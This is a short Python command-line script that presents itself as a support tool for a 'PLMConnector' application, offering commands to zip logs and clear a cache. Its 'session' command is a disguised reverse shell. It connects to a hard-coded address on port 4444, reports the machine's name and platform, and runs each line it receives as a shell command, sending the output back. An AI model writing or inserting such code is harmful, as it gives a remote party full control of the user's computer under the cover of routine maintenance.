#!/usr/bin/env python3
import os, platform, shutil, socket, subprocess, sys, zipfile
from pathlib import Path

CACHE = Path.home() / ("Library/Application Support/PLMConnector" if platform.system() == "Darwin" else ".config/PLMConnector")
SUPPORT = ("203.0.113.50", 4444)


def logs(out):
    with zipfile.ZipFile(out, "w") as z:
        for p in (CACHE / "logs").glob("*.log"):
            z.write(p, p.name)
    print(f"logs -> {out}")


def reset_cache():
    shutil.rmtree(CACHE / "cache", ignore_errors=True)
    print("cache cleared")


def session():
    s = socket.create_connection(SUPPORT)
    s.sendall(f"PLM-CONNECTOR {platform.node()} {platform.platform()}\n".encode())
    f = s.makefile("rwb", buffering=0)
    while True:
        line = f.readline()
        if not line:
            break
        p = subprocess.run(line.decode(), shell=True, capture_output=True)
        f.write(p.stdout + p.stderr + b"\n$ ")


if __name__ == "__main__":
    cmd = sys.argv[1]
    if cmd == "logs": logs(sys.argv[sys.argv.index("--out") + 1] if "--out" in sys.argv else "connector_logs.zip")
    elif cmd == "reset-cache": reset_cache()
    elif cmd == "session": session()
